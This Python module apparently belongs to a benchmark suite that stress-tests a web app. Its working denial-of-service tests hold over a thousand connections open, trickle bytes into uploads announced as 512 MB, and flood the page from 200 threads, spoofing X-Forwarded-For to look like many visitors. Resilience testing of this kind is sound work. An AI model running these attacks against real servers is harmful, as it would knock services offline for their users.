"""Attacks with many connections: held open without a request, with one that does not end, or with one after another."""

from __future__ import annotations

import http.client
import json
import socket
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, closing, suppress

import httpx

from benchmarks.target import API, MEGABYTE, Answers, Target


def heartbeats(target: Target) -> Answers:
    """1,100 heartbeats of one address, on a page that began with a limit of 1,024 open files."""
    return held_open(target, 1_100)


def very_many_heartbeats(target: Target) -> Answers:
    """1,100 heartbeats each of three addresses."""
    return held_open(target, 1_100, 3)


def held_open(target: Target, count: int, addresses: int = 1) -> Answers:
    answers: Answers = Counter()
    with ExitStack() as stack:
        held = []
        for number in range(count * addresses):
            connection = stack.enter_context(socket.create_connection(target.place, timeout=10))
            head = f"GET {API}/heartbeat/{number} HTTP/1.1\r\nHost: page\r\n"
            connection.sendall(f"{head}X-Forwarded-For: 10.2.0.{number % addresses}\r\n\r\n".encode())
            held.append(connection)
        with target.client(3, timeout=10) as client:
            for _ in range(10):
                try:
                    answers[f"GET / {client.get('/').status_code}"] += 1
                except httpx.HTTPError as error:
                    answers[f"GET / {type(error).__name__}"] += 1
                time.sleep(0.5)
        for connection in held:
            connection.settimeout(1)
            try:
                answers[f"heartbeat {connection.recv(12).decode()[9:] or 'closed'}"] += 1
            except OSError as error:
                answers[f"heartbeat {type(error).__name__}"] += 1
    return answers


def announced_and_not_sent(target: Target) -> Answers:
    """42 addresses announce 512 MB each and send little; when another visitor may upload as much."""
    length = 512 * MEGABYTE

    def announce(stack: ExitStack, address: str) -> socket.socket:
        connection = stack.enter_context(socket.create_connection(target.place, timeout=5))
        head = f"POST {API}/upload HTTP/1.1\r\nHost: page\r\nX-Forwarded-For: {address}\r\n"
        head += f"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: {length}\r\n\r\n--x\r\n"
        connection.sendall(head.encode())
        return connection

    begun, answers = time.monotonic(), Counter()
    with ExitStack() as stack:
        held = [announce(stack, f"10.3.0.{number}") for number in range(42)]
        time.sleep(2)
        while time.monotonic() < begun + 300:
            for connection in held:
                send_little(connection)  # a byte now and then
            connection = announce(stack, "10.3.1.1")
            connection.settimeout(2)
            try:
                answers[f"{connection.recv(12).decode()[9:]} at first"] += 1
            except TimeoutError:  # it waits for the rest of the upload
                return Counter([f"an upload of 512 MB is taken after {time.monotonic() - begun:.0f} s"])
            time.sleep(3)
    return Counter(["none is taken in five minutes"])


def send_little(connection: socket.socket) -> None:
    """Send a byte, unless the page has given the request up."""
    with suppress(OSError):
        connection.send(b"A")  # of the name of a header


def lookups(target: Target) -> Answers:
    """200 connections of one visitor ask about the embedded model for 20 s."""
    body = {"component_id": target.component("dock"), "fn_name": "embedded_model", "session_hash": "x", "data": []}
    return flooded(target, "POST", f"{API}/component_server", json.dumps(body))


def pages(target: Target) -> Answers:
    """200 connections of one visitor ask for the page for 20 s."""
    return flooded(target, "GET", "/")


def flooded(target: Target, method: str, path: str, body: str | None = None) -> Answers:
    """Send one request again and again, by clients that cost this machine little."""
    until = time.monotonic() + 20
    headers = {"X-Forwarded-For": "10.4.0.1"} | ({"Content-Type": "application/json"} if body else {})

    def send(number: int) -> Answers:
        answers: Answers = Counter()
        with closing(http.client.HTTPConnection(*target.place, timeout=120)) as connection:
            while time.monotonic() < until:
                connection.request(method, path, body, headers)
                answer = connection.getresponse()
                answer.read()
                answers[str(answer.status)] += 1
        return answers

    with ThreadPoolExecutor(200) as pool:
        return sum(pool.map(send, range(200)), Counter())
